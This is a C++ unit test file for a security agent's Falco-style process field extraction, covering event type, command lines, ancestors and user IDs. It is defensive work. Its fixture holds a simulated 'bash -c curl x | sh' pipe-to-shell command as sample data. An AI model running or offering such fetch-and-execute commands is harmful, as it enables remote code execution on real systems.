#include "agent/fields/process_fields.h"

#include <gtest/gtest.h>

namespace ztai {
namespace {

class ProcessFieldsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto exec = [&](ProcKey k, ProcKey parent, std::string file, std::vector<std::string> argv) {
      ExecPayload p;
      p.parent = parent;
      p.filename = std::move(file);
      p.argv = std::move(argv);
      p.uid = 1000;
      p.euid = 0;
      p.gid = 100;
      return Event{EventHeader{EventType::kExec, 2'000'000'000, k.tgid, 0, k, 77}, p};
    };
    table.apply(exec(init, {}, "/sbin/init", {"/sbin/init"}));
    table.apply(exec(shell, init, "/bin/bash", {"bash", "-c", "curl x | sh"}));
    event = exec(child, shell, "/usr/bin/curl", {"curl", "-s", "http://x"});
    proc = table.apply(*event);
  }

  FieldValue get(const std::string& name) {
    EventContext ctx{*event, proc, table, clock};
    auto list = extract_fields(builtin_fields(), ctx, {name});
    return list.empty() ? FieldValue() : list[0].second;
  }

  MetricsRegistry metrics;
  ProcessTable table{{}, "h", metrics};
  BootClock clock{1'000'000'000'000'000'000LL};
  ProcKey init{1, 1}, shell{10, 100}, child{11, 200};
  std::optional<Event> event;
  const ProcessInfo* proc = nullptr;
};

TEST_F(ProcessFieldsTest, ProcessFieldsFollowFalcoSemantics) {
  EXPECT_EQ(get("evt.type"), FieldValue(std::string("execve")));
  EXPECT_EQ(get("evt.res"), FieldValue(std::string("SUCCESS")));
  EXPECT_EQ(get("evt.time"), FieldValue(std::string("2001-09-09T01:46:42.000000000Z")));
  EXPECT_EQ(get("proc.pid"), FieldValue(uint64_t{11}));
  EXPECT_EQ(get("proc.ppid"), FieldValue(uint64_t{10}));
  EXPECT_EQ(get("proc.name"), FieldValue(std::string("curl")));
  EXPECT_EQ(get("proc.exe"), FieldValue(std::string("curl")));
  EXPECT_EQ(get("proc.exepath"), FieldValue(std::string("/usr/bin/curl")));
  EXPECT_EQ(get("proc.args"), FieldValue(std::string("-s http://x")));
  EXPECT_EQ(get("proc.cmdline"), FieldValue(std::string("curl -s http://x")));
  EXPECT_EQ(get("proc.argv"), FieldValue(std::vector<std::string>{"curl", "-s", "http://x"}));
  EXPECT_EQ(get("proc.pname"), FieldValue(std::string("bash")));
  EXPECT_EQ(get("proc.pcmdline"), FieldValue(std::string("bash -c curl x | sh")));
  EXPECT_EQ(get("proc.pexec_id"), FieldValue(table.find(shell)->exec_id));
  EXPECT_EQ(get("user.uid"), FieldValue(uint64_t{1000}));
  EXPECT_EQ(get("user.euid"), FieldValue(uint64_t{0}));
  EXPECT_EQ(get("group.gid"), FieldValue(uint64_t{100}));
  EXPECT_EQ(get("cgroup.id"), FieldValue(uint64_t{77}));
}

TEST_F(ProcessFieldsTest, AncestorIndexes) {
  EXPECT_EQ(get("proc.aname[1]"), FieldValue(std::string("bash")));
  EXPECT_EQ(get("proc.aname[2]"), FieldValue(std::string("init")));
  EXPECT_EQ(get("proc.aname[3]"), FieldValue());
  EXPECT_EQ(get("proc.aname[x]"), FieldValue());
  EXPECT_EQ(get("proc.aname"), FieldValue(std::vector<std::string>{"bash", "init"}));
}

TEST_F(ProcessFieldsTest, FieldsOfOtherEventTypesAreAbsent) {
  EXPECT_EQ(get("proc.exit_code"), FieldValue());
  EXPECT_EQ(get("evt.arg.child_pid"), FieldValue());
  EXPECT_EQ(get("no.such.field"), FieldValue());
}

TEST(FieldRegistry, RejectsDuplicatesAndDescribesEveryField) {
  FieldRegistry r;
  auto x = [](const EventContext&, std::string_view) -> FieldValue { return {}; };
  EXPECT_TRUE(r.add({"a.b", FieldType::kString, "d", x}));
  EXPECT_FALSE(r.add({"a.b", FieldType::kInt, "d", x}));
  for (const FieldInfo* f : builtin_fields().all()) {
    EXPECT_FALSE(f->description.empty()) << f->name;
  }
}

}  // namespace
}  // namespace ztai
